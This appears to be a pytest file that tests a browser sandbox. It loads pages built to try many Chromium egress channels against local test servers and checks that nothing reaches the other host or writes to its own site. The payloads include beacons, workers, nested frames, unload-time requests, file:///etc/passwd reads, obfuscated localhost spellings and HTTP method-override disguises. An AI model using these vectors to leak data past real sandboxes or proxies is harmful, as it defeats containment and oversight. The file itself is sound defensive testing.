"""Pages that try every way out that Chromium has, over plain http and inside TLS: nothing arrives elsewhere.

And none writes to its own site where only reading is allowed: a tunnel hides methods from the proxy.
"""

# ruff: noqa: E501 - one way out a line reads best
from __future__ import annotations

import asyncio
import ssl
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from aiohttp import web

from domain.policy import HostRule, Policy
from domain.run import Run
from sandbox.browsers import BrowserOptions, BrowserPool
from sandbox.gate import PageSession, open_page
from sandbox.keeping import keep_in
from sandbox.observe import Observer
from tests.requirements import requirement
from tests.sandbox.observe.site import make_authority

pytestmark = [pytest.mark.browser, requirement("BOX-5")]

READING = {"GET", "HEAD", "OPTIONS"}
RELATIONS = [
    "preconnect",
    "dns-prefetch",
    "prefetch",
    "preload",
    "modulepreload",
    "prerender",
    "stylesheet",
    "icon",
    "manifest",
    "search",
    "next",
]
VECTORS: dict[str, str] = {
    "style sheets": "<style>@import url(AWAY/i.css); @font-face {font-family: x; src: url(AWAY/font)} body {"
    "background: url(AWAY/css); font-family: x; cursor: url(AWAY/cursor), auto}</style>text",
    "links": "".join(f"<link rel={name} href=AWAY/link-{name} as=script>" for name in RELATIONS),
    "speculation rules": '<script type=speculationrules>{"prefetch": [{"urls": ["AWAY/spec"], "eagerness": "immediate"}],'
    '"prerender": [{"urls": ["AWAY/prerender"], "eagerness": "immediate"}]}</script>',
    "media": "<video src=AWAY/v poster=AWAY/p autoplay></video><audio src=AWAY/a></audio><object data=AWAY/o></object>"
    "<embed src=AWAY/e><img srcset=AWAY/s><svg><image href=AWAY/si /><use href=AWAY/u#x /></svg>",
    "event sources": "<script>new EventSource('AWAY/es')</script>",
    "web transport": "<script>try { new WebTransport('https://127.0.0.1:OTHER/') } catch {};"
    "try { new WebSocketStream('ws://127.0.0.1:OTHER/') } catch {}</script>",
    "shared workers": "<script>try { new SharedWorker('/shared.js') } catch {};"
    "try { new SharedWorker(URL.createObjectURL(new Blob(['fetch(`OWN/s`, {method: `DELETE`})']))) } catch {}</script>",
    "workers of workers": "<script>new Worker(URL.createObjectURL(new Blob(['new Worker(URL.createObjectURL(new Blob(["
    "`fetch(\"AWAY/n\");fetch(\"OWN/n\", {method: \"DELETE\"})`])))'])))</script>",
    "scripts of workers": "<script>new Worker(URL.createObjectURL(new Blob(['importScripts(`AWAY/i.js`)'])))</script>",
    "service workers": "<script>navigator.serviceWorker?.register('/shared.js').catch(() => 0)</script>",
    "worklets": "<script>CSS.paintWorklet?.addModule('AWAY/paint.js').catch(() => 0);import('AWAY/m.js').catch(() => 0)"
    "</script>",
    "pings": "<a id=a href=#x ping='AWAY/ping OWN/ping'>x</a><script>a.click()</script>",
    "beacons": "<script>navigator.sendBeacon('OWN/b', 'x'); navigator.sendBeacon('AWAY/b', 'x')</script>",
    "requests that outlive the page": "<script>const post = {method: 'POST', keepalive: true, body: 'x'};"
    "fetch('OWN/k', post).catch(() => 0); fetch('AWAY/k', post).catch(() => 0);"
    "try { fetchLater('OWN/l', {method: 'POST', body: 'x', activateAfter: 0}) } catch {}</script>",
    "forms": "<form id=f method=post action=OWN/f target=a></form><form id=g method=post action=AWAY/f target=b></form>"
    "<iframe name=a></iframe><iframe name=b></iframe><script>f.submit(); g.submit()</script>",
    "windows": "<form id=f method=post action=OWN/w target=_blank></form><script>f.submit(); window.open('AWAY/w');"
    "window.open('AWAY/w2', '_blank', 'noopener')</script>",
    "frames": "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=AWAY/meta'>\"></iframe>"
    "<iframe src='data:text/html,<img src=AWAY/data>'></iframe><iframe credentialless src=AWAY/c></iframe>"
    "<iframe sandbox=allow-scripts srcdoc='<script>fetch(`OWN/sb`, {method: `DELETE`, mode: `no-cors`})</script>'></iframe>",
    "files": "<iframe src=file:///etc/passwd></iframe><img src=file:///etc/passwd><iframe src=ftp://127.0.0.1:OTHER/></iframe>"
    "<script>fetch('file:///etc/passwd').then(() => document.title = 'FILE', () => 0)</script>",
    "methods": "<script>for (const m of ['DELETE', 'PUT', 'PATCH', 'POST', 'PROPFIND', 'ODD']) try { const x = new"
    " XMLHttpRequest(); x.open(m, 'OWN/x', false); x.send('x') } catch {}</script>",
    "binary bodies": "<script>fetch('/bin', {method: 'POST', body: new Uint8Array([255, 254])}).catch(() => 0)</script>",
    "downloads": "<a id=d href=OWN/d download>x</a><a id=e href=AWAY/d download>x</a><script>d.click(); e.click()</script>",
    "spellings of the host": "".join(
        f"<img src=http://{host}:OTHER/x>"
        for host in ("127.0.0.1.", "0", "2130706433", "0x7f.1", "%31%32%37.0.0.1", "[::ffff:127.0.0.1]", "a.localhost", "u:p@127.0.0.1")
    ),
    "the proxy itself": "<img src=http://127.0.0.1:3128/x><script>new WebSocket('ws://127.0.0.1:3128/')</script>",
    "redirects": "<img src=/to-away><script>fetch('/to-away', {mode: 'no-cors'}).catch(() => 0)</script><iframe src=/to-away></iframe>",
    "payment and identity": "<script>try { new PaymentRequest([{supportedMethods: 'AWAY/pay'}], {total: {label: 'x', amount:"
    " {currency: 'USD', value: '1'}}}).canMakePayment().catch(() => 0) } catch {};"
    "navigator.credentials?.get({identity: {providers: [{configURL: 'AWAY/f.json', clientId: 'x'}]}}).catch(() => 0)</script>",
    "advertising": "<script>try { navigator.joinAdInterestGroup({owner: 'AWAY', name: 'x', biddingLogicURL: 'AWAY/bid'}, 9)"
    ".catch(() => 0) } catch {}; try { sharedStorage.worklet.addModule('AWAY/s.js').catch(() => 0) } catch {}</script>",
    "imports": '<script type=importmap>{"imports": {"x": "AWAY/importmap.js"}}</script><script type=module>import "x"</script>'
    "<script>for (const type of ['json', 'css']) import('AWAY/typed', {with: {type}}).catch(() => 0)</script>",
    "old elements": "<body background=AWAY/background><table background=AWAY/table><tr><td background=AWAY/td></table><input type=image src=AWAY/input>"
    "<video><track default src=AWAY/track></video><picture><source srcset=AWAY/source><img></picture><frameset><frame src=AWAY/frame></frameset>"
    "<svg><script href=AWAY/svgscript></script><feImage href=AWAY/fe /><filter id=f><feImage href=AWAY/fe2 /></filter></svg><link rel=import href=AWAY/import>",
    "more styles": "<style>@import 'AWAY/layered' layer(x); div { mask: url(AWAY/mask); filter: url(AWAY/filter#x); clip-path: url(AWAY/clip#x);"
    "list-style-image: image-set(url(AWAY/list) 1x); border-image: url(AWAY/border) 1; content: url(AWAY/content); shape-outside: url(AWAY/shape)}</style><div>x</div>",
    "attributes that report": "<img attributionsrc=AWAY/attribution src=/x><a id=a href=#x attributionsrc=AWAY/click>x</a><script attributionsrc=AWAY/scripted src=/x>"
    "</script><iframe src=AWAY/topics browsingtopics sharedstoragewritable></iframe><script>a.click(); window.open('/y', '_blank', 'attributionsrc=' + encodeURIComponent('AWAY/opened'))</script>",
    "turn servers": "<script>for (const u of ['turn:127.0.0.1:OTHER?transport=tcp', 'turns:127.0.0.1:OTHER?transport=tcp', 'stun:127.0.0.1:OTHER']) try {"
    "const c = new RTCPeerConnection({iceTransportPolicy: u[0] == 't' ? 'relay' : 'all', iceServers: [{urls: u, username: 'u', credential: 'p'}]});"
    "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o)) } catch {}</script>",
    "passkeys of another host": "<script>try { navigator.credentials.get({publicKey: {challenge: new Uint8Array(8), rpId: 'localhost', allowCredentials: []}})"
    ".catch(() => 0); navigator.credentials.create({publicKey: {challenge: new Uint8Array(8), rp: {id: 'example.com', name: 'x'}, user: {id: new Uint8Array(1),"
    " name: 'x', displayName: 'x'}, pubKeyCredParams: []}}).catch(() => 0) } catch {}</script>",
    "screens and media": "<script>try { new PresentationRequest(['AWAY/presentation']).start().catch(() => 0) } catch {}; try { navigator.mediaSession.metadata ="
    " new MediaMetadata({artwork: [{src: 'AWAY/artwork'}]}) } catch {}; try { new Notification('x', {icon: 'AWAY/icon'}) } catch {}</script><audio src=/x autoplay></audio>",
    "the last moment": "<script>for (const e of ['pagehide', 'unload', 'beforeunload', 'visibilitychange']) addEventListener(e, () => {"
    "navigator.sendBeacon('OWN/late', e); navigator.sendBeacon('AWAY/late', e); fetch('AWAY/last', {keepalive: true, mode: 'no-cors'}).catch(() => 0) })</script>",
    "frames of frames": "<iframe src=\"data:text/html,<iframe srcdoc='<script>fetch(`AWAY/inner`, {mode: `no-cors`}).catch(() => 0)</script>'></iframe>\"></iframe>"
    "<script>const b = new Blob(['<script>fetch(`AWAY/blob`, {mode: `no-cors`}).catch(() => 0); fetch(`OWN/blob`, {method: `PUT`, mode: `no-cors`}).catch(() => 0)<' + '/script>'],"
    " {type: 'text/html'}); const f = document.createElement('iframe'); f.src = URL.createObjectURL(b); document.documentElement.append(f);"
    "const j = document.createElement('iframe'); j.src = 'javascript:fetch(`AWAY/js`, {mode: `no-cors`}).catch(() => 0)'; document.documentElement.append(j)</script>",
    "other programs": "".join(f"<iframe src='{scheme}:x'></iframe>" for scheme in ("mailto", "tel", "intent", "ms-settings", "vscode", "view-source", "filesystem:OWN/x", "chrome", "devtools")),
    "policies that report": "<iframe csp=\"default-src 'none'; report-uri AWAY/embedded\" src=/reports></iframe><script>try { new ReportingObserver(() => 0).observe();"
    "document.createElement('iframe').allow = 'x' } catch {}; try { trustedTypes.createPolicy('x', {}) } catch {}</script>",
    "streams": "<script>WebAssembly.compileStreaming?.(fetch('AWAY/wasm', {mode: 'no-cors'})).catch(() => 0); try { new Worker('AWAY/worker.js') } catch {};"
    "try { const c = new AudioContext(); c.audioWorklet.addModule('AWAY/audio.js').catch(() => 0) } catch {}; try { new FontFace('x', 'url(AWAY/face)').load().catch(() => 0) } catch {}</script>",
    "methods in disguise": "<script>for (const [k, v] of [['X-HTTP-Method-Override', 'DELETE'], ['X_Method_Override', 'PUT']]) fetch('OWN/disguised?_method=x', {headers: {[k]: v}})"
    ".catch(() => 0); fetch('OWN/disguised2?_method=DELETE').catch(() => 0)</script>",
    "caches": "<script>globalThis.caches?.open('x').then(c => c.add('AWAY/c')).catch(() => 0)</script>",
    "reports": "<img src=/blocked><script>eval('1')</script>",
    "style of a document": "",
}  # fmt: skip
HALVES = (
    "<!doctype html><body><ul><li>Party</ul><script>document.title = 'T \\ud83d'; console.log('\\ud83d');"
    "document.querySelector('ul').innerHTML = '<li>Party \\ud83d</li>'.repeat(4); throw Error('\\udc00')</script>"
)


@dataclass(kw_only=True)
class Sites:
    """A site with the attacks, one elsewhere, and what each of them was asked."""

    own: str = ""
    away: str = ""
    asked_own: list[str] = field(default_factory=list)
    asked_away: list[str] = field(default_factory=list)

    @property
    def policy(self) -> Policy:
        port = int(self.own.rsplit(":", 1)[1])
        return Policy(hosts=(HostRule(host="127.0.0.1", port=port),), private_hosts=("127.0.0.1",))

    def application(self, asked: list[str]) -> web.Application:
        async def answer(request: web.Request) -> web.StreamResponse:
            asked.append(f"{request.method} {request.path}")
            name = request.path.strip("/").replace("-", " ")
            if name == "to away":
                raise web.HTTPFound(f"{self.away}/landed")
            if name == "halves":
                return web.Response(text=HALVES, content_type="text/html")
            if name == "shared.js":
                return web.Response(text="fetch('/s2', {method: 'DELETE'})", content_type="text/javascript")
            if name == "style of a document":
                text = f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{self.away}/x.xsl'?><a/>"
                return web.Response(text=text, content_type="text/xml")
            return web.Response(text=self._page(name), content_type="text/html", headers=self._fields(name))

        application = web.Application()
        application.router.add_route("*", "/{path:.*}", answer)
        return application

    def _page(self, name: str) -> str:
        text = "<!doctype html><title>t</title>" + VECTORS.get(name, "")
        other = self.away.rsplit(":", 1)[1]
        return text.replace("AWAY", self.away).replace("OWN", self.own).replace("OTHER", other)

    def _fields(self, name: str) -> dict[str, str]:
        if name != "reports":
            return {}
        return {
            "Reporting-Endpoints": f'own="{self.own}/r", away="{self.away}/r"',
            "NEL": '{"report_to": "away", "max_age": 1000, "success_fraction": 1.0}',
            "Content-Security-Policy": f"img-src 'none'; report-uri {self.own}/csp {self.away}/csp",
            "Content-Security-Policy-Report-Only": "default-src 'none'; report-to away",
            "Link": f"<{self.away}/l>; rel=preload; as=script, <{self.away}>; rel=preconnect",
        }


@asynccontextmanager
async def serving(tls: ssl.SSLContext | None) -> AsyncIterator[Sites]:
    sites = Sites()
    async with AsyncExitStack() as stack:
        for name, asked in (("own", sites.asked_own), ("away", sites.asked_away)):
            runner = web.AppRunner(sites.application(asked), shutdown_timeout=0.1)
            await runner.setup()
            stack.push_async_callback(runner.cleanup)
            await web.TCPSite(runner, "127.0.0.1", 0, ssl_context=tls).start()
            setattr(sites, name, f"{'https' if tls else 'http'}://127.0.0.1:{runner.addresses[0][1]}")
        yield sites


async def visit(session: PageSession, sites: Sites, name: str) -> None:
    """Open a page of attacks, let it try, and leave it: some things happen when a page goes."""
    try:
        async with asyncio.timeout(3):
            await session.page.goto(f"{sites.own}/{name.replace(' ', '-')}", wait_until="load")
            await session.page.wait_for_load_state("networkidle")
    except TimeoutError:
        pass  # what never becomes idle has had its time
    await session.page.goto(f"{sites.own}/bye")


@pytest.mark.timeout(240)
@pytest.mark.parametrize("scheme", ["http", "https"])
async def test_no_page_reaches_another_host_or_writes_to_its_own(scheme: str, tmp_path: Path) -> None:
    key = make_authority(tmp_path)
    tls = None
    if scheme == "https":
        tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        tls.load_cert_chain(tmp_path / "leaf.pem", tmp_path / "leaf.key")
    async with serving(tls) as sites, BrowserPool(BrowserOptions(trusted_keys=(key,))) as pool:
        for name in VECTORS:
            sites.asked_own.clear()
            async with open_page(pool, sites.policy, record=True) as session:
                await visit(session, sites, name)
                assert await session.page.title() == "t", name
                assert session.recording is not None
                assert [one.model_dump_json() for one in await session.recording.exchanges()], name
            assert "GET /bye" in sites.asked_own, name
            assert not [asked for asked in sites.asked_own if "disguised" in asked], name
            assert [asked for asked in sites.asked_own if asked.split()[0] not in READING] == [], name
            assert sites.asked_away == [], name


@requirement("BOX-8")
async def test_what_is_left_of_a_page_with_halves_of_letters_can_be_kept(tmp_path: Path) -> None:
    async with serving(None) as sites, BrowserPool() as pool, open_page(pool, sites.policy) as session:
        await session.page.goto(f"{sites.own}/halves")
        left = await session.artifacts()
    keep_in(tmp_path)(Run.model_construct(id="r", error=None), left)
    assert "Party ?" in (tmp_path / "r" / "page.txt").read_text(encoding="utf-8")
    assert "log: ?" in (tmp_path / "r" / "console.txt").read_text(encoding="utf-8")


@requirement("LEARN-1")
async def test_a_page_with_halves_of_letters_is_observed() -> None:
    async with serving(None) as sites, Observer() as observer:
        seen = await observer.observe(f"{sites.own}/halves", sites.policy)
    assert seen.model_dump_json()
    assert "Party ?" in seen.pages[0].text_after


async def test_where_nothing_forbids_them_the_attempts_arrive() -> None:
    """The control: without it a page that tries nothing would pass for one that is held."""
    wanted = {
        "imports": {"/importmap.js", "/typed"},
        "old elements": {"/background", "/table", "/td", "/input", "/svgscript", "/fe"},
        "more styles": {"/layered", "/list", "/border", "/mask", "/shape"},
        "the last moment": {"/late", "/last"},
        "frames of frames": {"/inner", "/blob", "/js"},
        "streams": {"/wasm", "/face"},
    }
    async with serving(None) as sites, BrowserPool() as pool:
        rules = tuple(HostRule(host="127.0.0.1", port=int(one.rsplit(":", 1)[1])) for one in (sites.own, sites.away))
        policy = sites.policy.model_copy(update={"hosts": rules, "methods": ("GET", "HEAD", "POST", "PUT")})
        for name, paths in wanted.items():
            sites.asked_away.clear()
            async with open_page(pool, policy) as session:
                await visit(session, sites, name)
            arrived = {asked.split()[1] for asked in sites.asked_away}
            assert paths <= arrived, (name, arrived)
